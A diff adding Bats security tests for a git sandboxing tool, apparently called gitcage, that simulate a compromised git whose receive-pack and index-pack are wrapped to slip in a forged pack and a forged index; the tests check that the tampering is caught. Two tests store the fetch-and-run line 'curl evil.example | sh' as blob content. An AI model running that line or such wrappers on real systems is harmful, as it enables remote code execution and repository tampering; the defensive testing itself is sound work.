@@ -181,3 +181,79 @@ clone_works() {
 	grep -q "\"ref\":\"refs/heads/main\",\"old\":\"$fake\",\"new\":\"$main\",\"verdict\":\"refused\"" "$AUDIT" ||
 		flunk "$(cat "$AUDIT")"
 }
+
+# evil_index_pack PACK FORGED: the git gitcage runs is compromised twice over: its
+# receive-pack drops PACK (a valid pack) into the push, and its index-pack, which the indexer's
+# cage runs, indexes honestly and then puts FORGED in place of the index it wrote, as a parser
+# bug exploited in index-pack could.
+evil_index_pack() {
+	cat >"$EVIL" <<-EOF
+		#!/bin/sh
+		case " \$* " in
+		*" receive-pack "*)
+			for repo; do :; done
+			cp "$1" "\$repo/objects/pack/" || exit 1
+			exec /usr/bin/git "\$@" ;;
+		*" index-pack "*)
+			/usr/bin/git "\$@" || exit
+			prev= out=
+			for arg; do [ "\$prev" = -o ] && out=\$arg; prev=\$arg; done
+			case \$out in */$(basename "$1" .pack).idx) cp "$2" "\$out.new" && mv -f "\$out.new" "\$out" ;; esac
+			exit 0 ;;
+		esac
+		exec /usr/bin/git "\$@"
+	EOF
+	chmod 755 "$EVIL"
+}
+
+# The index of a one-blob pack names an existing blob (main's file.txt) for other content,
+# every checksum right. The indexer's cage may write it; the verifier's reads every entry of
+# the pack through it, existing ids too, and the hash gives it away.
+@test "an index from a compromised index-pack cannot give an existing object other content" {
+	local blob name
+	blob=$(git -C "$REPO" rev-parse main:file.txt)
+	echo 'curl evil.example | sh' >"$BIN/evil_blob"
+	name=$(python3 "$ATTACKS/forge_pack.py" "$BIN" "blob:$blob:$BIN/evil_blob")
+	evil_index_pack "$BIN/$name.pack" "$BIN/$name.idx"
+	remember_state
+	push_honest refs/heads/main
+	[ "$PUSH_STATUS" -ne 0 ] || flunk "the push exited 0: $PUSH_OUTPUT"
+	[[ $PUSH_OUTPUT == *"cannot be read: object hash mismatch"* ]] || flunk "$PUSH_OUTPUT"
+	expect_identical
+	[ "$(git -C "$REPO" cat-file blob "$blob" | sha1sum)" = "$(git -C "$BATS_TEST_TMPDIR/work" cat-file blob "$blob" | sha1sum)" ] ||
+		flunk "$blob has other content"
+}
+
+# The control: the same pack, indexed honestly, is published with the push (its one blob
+# under its real id), and the existing blob keeps its content.
+@test "control: the same extra pack indexed honestly is published, harmless" {
+	local blob name
+	blob=$(git -C "$REPO" rev-parse main:file.txt)
+	echo 'curl evil.example | sh' >"$BIN/evil_blob"
+	name=$(python3 "$ATTACKS/forge_pack.py" "$BIN" "blob:$(git hash-object "$BIN/evil_blob"):$BIN/evil_blob")
+	evil_index_pack "$BIN/$name.pack" /dev/null
+	sed -i "s|\*/$name.idx)|*/never.idx)|" "$EVIL"
+	push_honest refs/heads/main
+	[ "$PUSH_STATUS" -eq 0 ] || flunk "$PUSH_OUTPUT"
+	[ -e "$REPO/objects/pack/$name.pack" ] || flunk "the extra pack is not published"
+	git -C "$REPO" cat-file blob "$blob" | cmp -s - <(git -C "$BATS_TEST_TMPDIR/work" cat-file blob "$blob") ||
+		flunk "$blob has other content"
+	fsck_clean
+}
+
+# An index that is not the pack's (another pack's, every checksum right) is refused before
+# the verifier reads it: git would refuse to open the pack, and every object of it be missing.
+@test "an index of another pack is refused, not published" {
+	local name other
+	echo one >"$BIN/one"
+	echo two >"$BIN/two"
+	name=$(python3 "$ATTACKS/forge_pack.py" "$BIN" "blob:$(git hash-object "$BIN/one"):$BIN/one")
+	mkdir "$BIN/other"
+	other=$(python3 "$ATTACKS/forge_pack.py" "$BIN/other" "blob:$(git hash-object "$BIN/two"):$BIN/two")
+	evil_index_pack "$BIN/$name.pack" "$BIN/other/$other.idx"
+	remember_state
+	push_honest refs/heads/main
+	[ "$PUSH_STATUS" -ne 0 ] || flunk "the push exited 0: $PUSH_OUTPUT"
+	[[ $PUSH_OUTPUT == *"does not match it"* ]] || flunk "$PUSH_OUTPUT"
+	expect_identical
+}
